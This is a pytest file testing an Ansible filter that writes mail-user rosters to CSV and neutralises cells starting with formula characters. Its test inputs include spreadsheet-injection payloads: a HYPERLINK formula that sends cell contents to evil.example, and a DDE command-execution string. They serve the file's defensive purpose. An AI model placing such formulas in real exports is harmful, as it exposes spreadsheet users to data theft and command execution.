# -*- coding: utf-8 -*-
from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io
import re

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.mailops.mailbox.plugins.filter.roster_csv import COLUMNS, FilterModule, neutralise, roster_csv

ZHANG = dict(email='zhang.san@example.org', name=u'张三', department=u'销售部', title=u'销售经理',
             employee_id='E1001', mobile='+8613800000000', aliases=['zs@example.org', 'san@example.org'],
             state='present')


def rows(text):
    return list(csv.reader(io.StringIO(text, newline='')))


def test_roster_columns_in_order_with_a_header():
    text = roster_csv([ZHANG])
    assert rows(text) == [list(COLUMNS), ['zhang.san@example.org', u'张三', u'销售部', u'销售经理', 'E1001',
                                          "'+8613800000000", 'zs@example.org,san@example.org', 'present']]
    assert text.split('\r\n')[1].endswith('"zs@example.org,san@example.org",present')  # quoted: it holds a comma


@pytest.mark.parametrize('value', ['=1+2', '+SUM(A1:A2)', '-2+3', '@SUM(1)', '\t=1', '\r=1',
                                   '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"])
def test_formula_starts_are_neutralised(value):
    user = dict(ZHANG, name=value, title=value, department=value, employee_id=value)
    cells = rows(roster_csv([user], header=False))[0]
    for column in ('name', 'department', 'title', 'employee_id'):
        assert cells[COLUMNS.index(column)] == "'" + value


@pytest.mark.parametrize('value', ['a=1', 'x+y', u'张=三', ' =1', "'already quoted", '1-2', 'mail@host'])
def test_other_cells_are_written_as_they_are(value):
    assert rows(roster_csv([dict(ZHANG, title=value)], header=False))[0][COLUMNS.index('title')] == value


def test_an_alias_list_that_starts_with_a_formula_is_neutralised_as_one_cell():
    cell = rows(roster_csv([dict(ZHANG, aliases=['=evil@example.org', 'b@example.org'])], header=False))[0][6]
    assert cell == "'=evil@example.org,b@example.org"


def test_missing_and_null_values_are_empty_cells_and_other_keys_are_ignored():
    user = dict(email='a@example.org', name='A', title=None, password='never', userPassword='{CRYPT}$6$x')
    text = roster_csv([user], header=False)
    assert rows(text) == [['a@example.org', 'A', '', '', '', '', '', '']]
    assert 'never' not in text and 'CRYPT' not in text


@pytest.mark.parametrize('value', [u'line one\nline "two", with a comma', u'a\rb', u'a\r\nb'])
def test_line_breaks_and_quotes_inside_a_cell_stay_in_that_cell(value):
    first, second = rows(roster_csv([dict(ZHANG, title=value), ZHANG], header=False))
    plain, = rows(roster_csv([ZHANG], header=False))
    assert first == plain[:3] + [value] + plain[4:] and second == plain


def test_bom_and_no_header():
    text = roster_csv([ZHANG], header=False, bom=True)
    assert text.startswith(u'\ufeffzhang.san@example.org,')
    assert roster_csv([]) == ','.join(COLUMNS) + '\r\n'


@pytest.mark.parametrize('bad, message', [('not a list', 'expects a list of users, got str'),
                                          ([ZHANG, 'x'], 'users[1] is a str, not a dictionary')])
def test_bad_input_is_a_filter_error(bad, message):
    with pytest.raises(AnsibleFilterError, match=re.escape('roster_csv: ' + message)):
        roster_csv(bad)


def test_registered_under_its_name():
    assert FilterModule().filters()['roster_csv'] is roster_csv


def test_an_exported_csv_reads_back_as_the_same_values():
    from ansible_collections.mailops.mailbox.plugins.module_utils._template.normalise import clean
    for value in ('+8613800000000', '=SUM(A1)', '-5', '@home', "O'Brien", "'t Hooft"):
        assert clean(neutralise(value)) == value
